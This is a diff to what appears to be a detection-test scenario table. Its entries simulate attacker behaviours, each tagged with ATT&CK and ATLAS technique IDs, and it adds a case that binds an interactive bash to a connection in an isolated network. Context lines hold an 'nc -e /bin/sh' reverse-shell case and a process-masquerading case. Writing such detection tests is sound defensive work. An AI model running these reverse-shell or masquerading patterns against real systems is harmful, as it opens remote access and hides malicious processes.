@@ -43,6 +43,11 @@ run('fresh')` }],
   },
   named('reverse-shell', 'child.reverse-shell', 'nc', ['-e', '/bin/sh', '127.0.0.1', '9'], 'T1059.004', 'T1071', 'AML.T0072'),
   {
+    name: 'shell-on-socket', rule: 'child.on-socket', techniques: ['T1059.004', 'T1071', 'AML.T0072'], needsRoot: true, seenBy: programs, runs: 'bash',
+    does: 'runs a program that only sleeps, as bash -i, whose input and output are a connection to 203.0.113.8, in a network of its own that has no way out',
+    steps: [{ actor: "apart(['203.0.113.8'], lambda: hang('bash', '-i', address='203.0.113.8'))" }],
+  },
+  {
     name: 'masquerade', rule: 'child.masquerade', techniques: ['T1036.005', 'AML.T0074'], does: 'runs a program that only sleeps, as [kworker/0:1]', seenBy: programs,
     steps: [{ actor: "run('tool', called='[kworker/0:1]')" }],
   },
